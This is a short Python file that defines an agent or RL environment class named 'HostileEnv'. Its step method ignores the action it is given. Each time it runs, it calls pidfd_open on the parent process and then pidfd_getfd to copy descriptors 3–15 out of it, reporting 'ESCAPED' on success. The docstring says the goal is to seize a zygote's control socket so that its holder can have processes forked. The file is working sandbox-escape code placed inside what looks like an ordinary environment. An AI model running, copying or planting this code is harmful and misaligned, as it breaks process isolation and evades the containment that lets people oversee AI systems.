"""Copies the zygote's control socket out of it: whoever holds that can have children forked."""
import ctypes, os

LIBC = ctypes.CDLL(None, use_errno=True)
PIDFD_OPEN, PIDFD_GETFD = 434, 438

def refused(code):
    return f"refused: {type(OSError(code, '')).__name__} {code}"

class HostileEnv:
    def __init__(self, max_turns=5, **kwargs):
        self.max_turns = max_turns
    def reset(self, seed=None):
        return "ready", {}
    def step(self, action):
        if os.uname().machine not in ("x86_64", "aarch64"):
            return "refused: unsupported machine", 0.0, False, False, {}
        handle = LIBC.syscall(PIDFD_OPEN, os.getppid() or 1, 0)
        code = ctypes.get_errno()
        if handle < 0:
            return refused(code), 0.0, False, False, {}
        got = [fd for fd in range(3, 16) if LIBC.syscall(PIDFD_GETFD, handle, fd, 0) >= 0]
        report = f"ESCAPED: descriptors {got}" if got else refused(ctypes.get_errno())
        return report, 0.0, False, False, {}
